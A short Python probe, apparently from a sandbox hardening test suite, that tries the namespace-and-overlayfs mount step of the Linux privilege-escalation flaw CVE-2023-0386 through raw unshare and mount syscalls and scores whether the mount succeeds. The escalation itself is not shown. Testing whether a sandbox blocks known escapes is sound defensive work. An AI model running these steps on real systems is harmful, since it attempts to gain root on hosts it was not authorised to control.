"""Lay a file system over the root in order to carry a setuid file out of it (CVE-2023-0386).

See: https://nvd.nist.gov/vuln/detail/CVE-2023-0386
Layers: main bare
"""


def attempt():
    call(272, 0x10020000)
    option = b"lowerdir=/usr:/lib"
    return float(call(165, b"overlay", b"/tmp", b"overlay", 0, option) == 0)
